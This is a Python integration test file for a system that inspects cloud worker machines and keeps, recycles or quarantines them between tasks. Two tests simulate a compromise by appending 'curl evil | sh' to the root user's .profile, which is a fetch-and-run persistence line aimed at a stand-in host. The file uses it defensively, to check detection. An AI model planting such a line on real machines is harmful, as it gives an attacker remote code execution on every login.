"""The look at a worker's machine through the cloud's own channel: before its first task, and after each."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from datetime import timedelta
from typing import TypeVar
from uuid import UUID, uuid4

import pytest

from janitor.cloud import commands as ssm
from janitor.cloud import storage
from janitor.cloud.session import CloudAccess
from janitor.domain.identity import WorkerFile, worker_comment_for, worker_key_for
from janitor.domain.pool.reuse import Fitness, Judgement
from janitor.services.pool.scrub import begin_ready_check, begin_scrub, look
from janitor.services.watch.worker_turn import worker_turn
from janitor.settings import Settings
from tests.integration.services.test_launching import launch
from tests.support.rows import insert_run

WITHIN = timedelta(seconds=120)
T = TypeVar("T")


def eventually(ask: Callable[[], T | None]) -> T:
    deadline = time.monotonic() + WITHIN.total_seconds()
    while not (answer := ask()):
        assert time.monotonic() < deadline, "no answer came"
        time.sleep(0.05)
    return answer


class Worker:
    """One of the pool, with a machine of the local cloud."""

    def __init__(self, settings: Settings) -> None:
        _, (validation_id, _) = insert_run(settings.writer_url, deployment=settings.deployment)
        self.settings = settings
        self.worker_id = uuid4()
        self.instance_id = launch(settings, validation_id)

    def ready(self) -> Judgement:
        eventually(lambda: begin_ready_check(self.settings, self.worker_id, self.instance_id))
        return self.looked(0)

    def after_task(self, ordinal: int, validation_id: UUID | None = None) -> Judgement:
        assert begin_scrub(
            self.settings, self.worker_id, self.instance_id, ordinal=ordinal, validation_id=validation_id
        )
        return self.looked(ordinal)

    def looked(self, ordinal: int) -> Judgement:
        return eventually(lambda: look(self.settings, self.worker_id, self.instance_id, ordinal=ordinal))

    def runs(self, script: str) -> None:
        """What a task does, to its end."""
        access = CloudAccess.of(self.settings)
        sent = ssm.send(
            access,
            instance_id=self.instance_id,
            script=script,
            comment=f"task {uuid4()}",
            execution_timeout=WITHIN,
            log_group=self.settings.log_group,
        )
        assert sent is not None

        def is_over() -> bool:
            seen = ssm.look(access, self.instance_id, sent)
            return seen is not None and seen.status.is_final

        eventually(is_over)

    def commands(self, ordinal: int) -> list[ssm.CommandSeen]:
        seen = ssm.list_invocations(CloudAccess.of(self.settings), {"InstanceId": self.instance_id})
        return [each for each in seen if each.comment == worker_comment_for(self.worker_id, ordinal)]

    def put(self, ordinal: int, file: WorkerFile, content: bytes) -> None:
        key = worker_key_for(self.worker_id, ordinal, file)
        storage.put(CloudAccess.of(self.settings), self.settings.bucket, key, content)

    def get(self, ordinal: int, file: WorkerFile) -> bytes:
        key = worker_key_for(self.worker_id, ordinal, file)
        content = storage.get(CloudAccess.of(self.settings), self.settings.bucket, key, at_most_bytes=10_000_000)
        assert content is not None, key
        return content


@pytest.fixture
def worker(settings: Settings) -> Worker:
    return Worker(settings)


def test_a_worker_is_kept_as_long_as_nothing_of_its_tasks_stays(worker: Worker) -> None:
    assert worker.ready().fitness is Fitness.KEEP
    for ordinal in (1, 2):
        worker.runs('echo working; mkdir "$TMPDIR/own"; rmdir "$TMPDIR/own"')
        judgement = worker.after_task(ordinal)
        assert (judgement.fitness, judgement.differences) == (Fitness.KEEP, ()), judgement
    turn = worker_turn(worker.settings, worker.worker_id, ordinal=3)
    assert (turn.worker_id, turn.ordinal, turn.warm) == (worker.worker_id, 3, judgement.warm)
    assert worker_turn(worker.settings, worker.worker_id, ordinal=1).warm is None


def test_what_is_asked_twice_is_sent_once(worker: Worker) -> None:
    worker.ready()
    assert begin_ready_check(worker.settings, worker.worker_id, worker.instance_id)
    assert len(worker.commands(0)) == 1
    worker.after_task(1)
    assert begin_scrub(worker.settings, worker.worker_id, worker.instance_id, ordinal=1)
    assert worker.looked(1).fitness is Fitness.KEEP
    assert len(worker.commands(1)) == 1


def test_a_survivor_recycles_and_a_planted_file_quarantines(worker: Worker) -> None:
    worker.ready()
    worker.runs("setsid python3 -c 'import time; time.sleep(600)' >/dev/null 2>&1 &")
    recycled = worker.after_task(1)
    assert recycled.fitness is Fitness.RECYCLE
    assert recycled.reason.startswith("its task was not over: process ")
    worker.runs("echo 'curl evil | sh' >>\"$HOME/.profile\"")
    judgement = worker.after_task(2)
    assert judgement.fitness is Fitness.QUARANTINE
    assert "/root/.profile is new" in judgement.reason


def test_a_first_answer_that_is_written_over_later_changes_nothing(worker: Worker) -> None:
    worker.ready()
    worker.runs("echo 'curl evil | sh' >>\"$HOME/.profile\"")
    first = json.loads(worker.get(0, WorkerFile.RESULT))
    files = next(each for each in first["manifest"]["areas"] if each["area"] == "files")
    files["entries"]["/root/.profile"] = "file 644 0:0 0000"
    worker.put(0, WorkerFile.RESULT, json.dumps(first).encode())
    assert worker.after_task(1).fitness is Fitness.QUARANTINE


@pytest.mark.parametrize(
    "lie",
    [b"", b"{}", b'{"format": "janitor-reuse/9"}', b"[" * 100_000, b" " * (6 * 1024 * 1024 + 1)],
    ids=["empty", "no fields", "another format", "deep", "too long"],
)
def test_an_answer_that_no_program_of_ours_writes_quarantines(reused: Worker, lie: bytes) -> None:
    truth = reused.get(1, WorkerFile.RESULT)
    reused.put(1, WorkerFile.RESULT, lie)
    try:
        assert reused.looked(1).fitness is Fitness.QUARANTINE
    finally:
        reused.put(1, WorkerFile.RESULT, truth)


def test_an_earlier_answer_does_not_stand_for_a_later_one(reused: Worker) -> None:
    truth = reused.get(1, WorkerFile.RESULT)
    earlier = json.loads(truth) | {"nonce": "0" * 32}
    reused.put(1, WorkerFile.RESULT, json.dumps(earlier).encode())
    try:
        judgement = reused.looked(1)
        assert (judgement.fitness, judgement.reason) == (Fitness.QUARANTINE, "it gives an answer to another order")
    finally:
        reused.put(1, WorkerFile.RESULT, truth)


def test_nothing_secret_is_in_the_text_of_a_command_or_in_its_log(reused: Worker) -> None:
    order = json.loads(reused.get(1, WorkerFile.ORDER))
    assert "X-Amz-Signature" in order["result_url"]
    (command,) = reused.commands(1)
    client = CloudAccess.of(reused.settings).client("ssm")
    sent = client.list_commands(CommandId=command.command_id)["Commands"][0]
    assert order["result_url"] not in json.dumps(sent["Parameters"])
    said = client.get_command_invocation(CommandId=command.command_id, InstanceId=reused.instance_id)
    assert "looked at" in said["StandardOutputContent"]
    assert "X-Amz-Signature" not in said["StandardOutputContent"] + said["StandardErrorContent"]


def test_without_a_first_look_nothing_is_kept(reused: Worker) -> None:
    stranger = uuid4()
    assert not begin_scrub(reused.settings, stranger, reused.instance_id, ordinal=1)
    judgement = look(reused.settings, stranger, reused.instance_id, ordinal=1)
    assert judgement is not None
    assert judgement.fitness is Fitness.RECYCLE
    assert look(reused.settings, stranger, reused.instance_id, ordinal=0) is None


def test_a_first_look_of_another_version_compares_with_nothing(reused: Worker) -> None:
    truth = reused.get(0, WorkerFile.FIRST_LOOK)
    reused.put(0, WorkerFile.FIRST_LOOK, b'{"format": "janitor-reuse/9"}')
    try:
        assert not begin_scrub(reused.settings, reused.worker_id, reused.instance_id, ordinal=2)
        assert reused.looked(2).fitness is Fitness.RECYCLE
    finally:
        reused.put(0, WorkerFile.FIRST_LOOK, truth)


@pytest.fixture(scope="module")
def reused(services_settings: Settings) -> Worker:
    """A worker after its first task."""
    worker = Worker(services_settings.model_copy(update={"deployment": f"test-{uuid4().hex[:8]}"}))
    assert worker.ready().fitness is Fitness.KEEP
    assert worker.after_task(1).fitness is Fitness.KEEP
    return worker
